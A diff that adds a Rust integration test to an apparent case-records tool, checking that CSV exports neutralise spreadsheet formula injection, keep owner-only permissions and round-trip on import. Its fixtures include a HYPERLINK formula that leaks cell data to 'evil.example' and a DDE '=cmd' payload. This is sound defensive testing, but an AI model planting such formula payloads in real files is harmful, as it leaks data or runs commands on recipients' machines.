@@ -418,3 +418,109 @@ fn status_filter_folder_rules_and_bad_flags() {
     let run = office.run(&["export", "--format", "csv"]);
     assert_eq!(run.code, 2, "--out is required: {}", run.stderr);
 }
+
+/// What a spreadsheet would run: a case whose text starts with `=`, `+`, `-`, `@` or a tab
+/// is exported with a quote in front of each such cell, in every CSV file; the files are
+/// owner-only in an owner-only folder; and importing the export gives back every value
+/// exactly (the quote is taken off again).
+#[test]
+fn formula_cells_are_quoted_owner_only_and_read_back_exactly() {
+    use std::os::unix::fs::PermissionsExt;
+    let device = Device::init("T03");
+    let hostile = [
+        (
+            "incident.place",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        ),
+        ("person.name", "+1 (555) 0100"),
+        ("forensic.examiner", "-2+3"),
+        ("forensic.report_ref", "@SUM(1+1)"),
+        ("incident.narrative", "\tindented"),
+        ("remains.marks", "'=already quoted"),
+        ("remains.effects", "'tis a ring"),
+    ];
+    let mut args = vec!["--kind", "killed", "--place", "KHR"];
+    // `--set KEY=@@text` is the text `@text` (`@FILE` reads a file).
+    let sets: Vec<String> = hostile
+        .iter()
+        .map(|(k, v)| match v.strip_prefix('@') {
+            Some(rest) => format!("{k}=@@{rest}"),
+            None => format!("{k}={v}"),
+        })
+        .collect();
+    for set in &sets {
+        args.extend(["--set", set]);
+    }
+    let reference = device.new_case(&args);
+    device.ok(&["case", "custody", &reference, "--to", "=cmd|'/C calc'!A0"]);
+
+    let dir = out_dir(&device, "formulas");
+    export(&device, &dir, &["--format", "csv"]);
+    let mode = |p: &Path| std::fs::metadata(p).expect("metadata").permissions().mode() & 0o777;
+    assert_eq!(mode(&dir), 0o700, "the export folder is owner-only");
+    for name in ["cases.csv", "custody.csv", "manifest.csv"] {
+        assert_eq!(mode(&dir.join(name)), 0o600, "{name} is owner-only");
+    }
+
+    let mut reader = csv::Reader::from_path(dir.join("cases.csv")).expect("csv");
+    let header = reader.headers().expect("header").clone();
+    let row = reader.records().next().expect("one row").expect("row");
+    let cell = |key: &str| {
+        let at = header.iter().position(|h| h == key).expect("column");
+        row[at].to_string()
+    };
+    for (key, value) in hostile {
+        let quoted = value.starts_with(['=', '+', '-', '@', '\t', '\'']);
+        let expected = if quoted {
+            format!("'{value}")
+        } else {
+            value.to_string()
+        };
+        assert_eq!(cell(key), expected, "{key}");
+    }
+    for name in ["cases.csv", "custody.csv"] {
+        let mut reader = csv::Reader::from_path(dir.join(name)).expect("csv");
+        for record in reader.records() {
+            for cell in record.expect("record").iter() {
+                let number = cell.parse::<f64>().is_ok();
+                assert!(
+                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name} holds a formula cell: {cell:?}"
+                );
+            }
+        }
+    }
+
+    // The export comes back in through `cairn case import`, value for value.
+    let other = Device::init("T03");
+    let map = out_dir(&other, "map.toml");
+    let ignored: Vec<String> = header
+        .iter()
+        .filter(|h| cairn_model::field(h).is_err() && !["place", "status_basis"].contains(h))
+        .map(|h| format!("{h:?}"))
+        .collect();
+    std::fs::write(
+        &map,
+        format!("[ignore]\ncolumns = [{}]\n", ignored.join(", ")),
+    )
+    .expect("map");
+    other.ok(&[
+        "case",
+        "import",
+        &dir.join("cases.csv").to_string_lossy(),
+        "--map",
+        &map.to_string_lossy(),
+    ]);
+    let list = other.json(&["case", "list"]);
+    let imported = list[0]["reference"].as_str().expect("reference");
+    let case = other.json(&["case", "show", imported]);
+    for (key, value) in hostile {
+        let (group, leaf) = key.split_once('.').unwrap_or(("", key));
+        let got = if group.is_empty() {
+            &case[leaf]
+        } else {
+            &case[group][leaf]
+        };
+        assert_eq!(got.as_str(), Some(value), "{key} after export and import");
+    }
+}
